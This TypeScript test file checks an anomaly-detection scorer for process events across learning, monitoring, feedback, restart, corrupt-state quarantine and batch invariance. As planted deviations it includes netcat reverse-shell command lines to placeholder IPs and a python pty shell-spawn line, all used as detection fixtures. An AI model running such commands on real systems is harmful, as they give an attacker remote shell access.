import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import t from 'tap';
import { seededRandom as rng } from '../demo/generate';
import { resolveConfig } from '../conf/config';
import { Scorer } from '../scorer/scorer';
import type { ResultRow } from '../scorer/types';

// A subject's whole lifecycle through the Scorer facade with the real models: learning,
// monitoring, a planted deviation flagged with a reason, feedback, and a restart that resumes.

const HOUR = 3600;
const START = 1_790_000_000;

const HABITS = [
  ['/usr/bin/git', 'git status', '/bin/bash'],
  ['/usr/bin/git', 'git pull --rebase', '/bin/bash'],
  ['/usr/bin/vim', 'vim src/main.c', '/bin/bash'],
  ['/usr/bin/make', 'make -j4', '/bin/bash'],
  ['/usr/bin/gcc', 'gcc -O2 -c main.c', '/usr/bin/make'],
  ['/usr/bin/ls', 'ls -la', '/bin/bash'],
  ['/usr/bin/node', 'node server.js', '/bin/bash'],
];

function processRow(time: number, exe: string, cmdline: string, parentPath: string, pid: number, auid = '1000'): ResultRow {
  return {
    query: 'pack_user-behavior_process_events',
    host: 'build-07',
    time,
    action: 'added',
    columns: {
      pid: String(pid),
      path: exe,
      cmdline,
      parent: '1',
      auid,
      uid: auid,
      euid: auid,
      cwd: '/home/bob/src',
      parent_path: parentPath,
      time: String(time),
    },
    decorations: {},
  };
}

function normalDay(r: () => number, day: number, n: number): ResultRow[] {
  const rows: ResultRow[] = [];
  for (let i = 0; i < n; i++) {
    const [exe, cmd, parent] = HABITS[Math.floor(r() * HABITS.length)];
    const time = START + day * 24 * HOUR + 9 * HOUR + Math.floor(r() * 8 * HOUR);
    rows.push(processRow(time, exe, cmd, parent, 1000 + Math.floor(r() * 30000)));
  }
  return rows.sort((a, b) => a.time - b.time);
}

const config = (stateDir: string) =>
  resolveConfig({ state_dir: stateDir, learning: { min_events: 400, min_days: 1 }, models: { rarity: true, ocsvm: true, lstm: false } }, 'test', {});

t.test('learning, monitoring, a planted deviation, feedback, restart', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-lifecycle-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const users = [{ uid: '1000', username: 'bob' }];
  const r = rng(1);
  let scorer = await Scorer.open({ config: config(dir), stateDir: dir });
  scorer.setUsers(users);

  const first = await scorer.scoreRows(normalDay(r, 0, 300));
  t.ok(
    first.every((s) => s.verdict === 'learning' && s.score === null),
    'a new subject is learning: no score, no bad',
  );
  t.equal(first[0].subject, 'bob', 'auid 1000 resolved to bob through the users table');

  await scorer.scoreRows(normalDay(r, 1, 300));
  const monitoring = scorer.summaries().filter((s) => s.subject === 'bob@build-07');
  t.ok(monitoring.length > 0 && monitoring.every((s) => s.state === 'monitoring'), 'after the minimums bob is monitored');

  const normal = await scorer.scoreRows(normalDay(r, 2, 400));
  const badNormal = normal.filter((s) => s.verdict === 'bad').length;
  t.ok(badNormal <= 2, `usual behaviour is rarely bad (${badNormal} of 400)`);

  const attackTime = START + 2 * 24 * HOUR + 23 * HOUR;
  const [attack] = await scorer.scoreRows([processRow(attackTime, '/usr/bin/nc', 'nc -e /bin/sh 198.51.100.7 4444', '/bin/bash', 31337)]);
  t.equal(attack.verdict, 'bad', `a never-seen nc reverse shell is bad (score ${attack.score})`);
  t.match(attack.reasons, /nc/, `the reason names it: ${attack.reasons}`);
  t.ok(attack.model, 'the deciding model is named');

  // feedback: labelled normal, the same generalised event stops being flagged
  scorer.feedback(attack, { id: attack.id, label: 'normal', note: 'sanctioned test', time: attackTime });
  const [again] = await scorer.scoreRows([processRow(attackTime + 60, '/usr/bin/nc', 'nc -e /bin/sh 198.51.100.7 4444', '/bin/bash', 31338)]);
  t.ok(again.score !== null && again.score >= 0.7, `after normal feedback it is good (score ${again.score})`);

  // restart: the state survives and the subject is still monitoring, not relearning
  scorer.save();
  scorer = await Scorer.open({ config: config(dir), stateDir: dir });
  scorer.setUsers(users);
  t.ok(
    scorer.summaries().some((s) => s.subject === 'bob@build-07' && s.state === 'monitoring'),
    'bob resumes monitoring after a restart',
  );
  const [afterRestart] = await scorer.scoreRows([
    processRow(attackTime + 120, '/usr/bin/python3', 'python3 -c \'import pty;pty.spawn("/bin/sh")\'', '/usr/bin/nc', 4242),
  ]);
  t.equal(afterRestart.verdict, 'bad', `a new deviation after the restart is still caught (score ${afterRestart.score})`);
});

t.test('a corrupt subject file is quarantined and the subject relearns, loudly', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-corrupt-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  fs.mkdirSync(path.join(dir, 'subjects'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'subjects', 'alice.json'), '{"format":"anomaly-ext","kind":"subject","version":1,"payload":{"name":"ali');
  const messages: string[] = [];
  const scorer = await Scorer.open({ config: config(dir), stateDir: dir, log: (level, msg) => messages.push(`${level}: ${msg}`) });
  t.equal(scorer.subjectCount, 0, 'nothing half-loaded');
  t.ok(
    messages.some((m) => m.startsWith('error:') && m.includes('alice.json')),
    `the error names the file: ${messages.join(' | ')}`,
  );
  const quarantined = fs.readdirSync(path.join(dir, 'subjects', 'quarantine'));
  t.equal(quarantined.length, 1, 'the corrupt file was moved to quarantine');
  t.notOk(fs.existsSync(path.join(dir, 'subjects', 'alice.json')), 'and is gone from where it would be loaded again');
});

t.test('the same log gives the same scores however it is cut into batches', async (t) => {
  // the extension scores what the queue gathered in 25 ms, the CLI 2,000 rows at a time: the
  // start of monitoring, retraining and online learning must not depend on that
  const r = rng(5);
  const rows: ResultRow[] = [];
  for (let day = 0; day < 6; day++) rows.push(...normalDay(r, day, 160));
  rows.push(processRow(START + 6 * 24 * HOUR + 10 * HOUR, '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/bin/bash', 4242));
  rows.push(...normalDay(r, 7, 160));
  const cfg = resolveConfig(
    {
      learning: { min_events: 300, min_days: 1 },
      retrain: { interval_seconds: 12 * HOUR, window_events: 2000 },
      models: { rarity: true, ocsvm: true, lstm: true },
    },
    'test',
    {},
  );
  const run = async (batch: number) => {
    const scorer = await Scorer.open({ config: cfg, stateDir: null, modelOptions: { lstm: { units: 8, epochs: 1 } } });
    const scores: Array<number | null> = [];
    for (let i = 0; i < rows.length; i += batch) for (const s of await scorer.scoreRows(rows.slice(i, i + batch))) scores.push(s.score);
    return scores;
  };
  const whole = await run(rows.length);
  const cut = await run(37);
  t.equal(whole.filter((s) => s !== null).length, cut.filter((s) => s !== null).length, 'monitoring starts at the same row');
  const differ = whole.findIndex((s, i) => s !== cut[i]);
  t.equal(differ, -1, differ < 0 ? 'every score identical' : `row ${differ} differs: ${whole[differ]} vs ${cut[differ]}`);
  t.ok(whole.filter((s) => s !== null && s < 0.3).length >= 1, 'and the planted nc is bad in both');
});
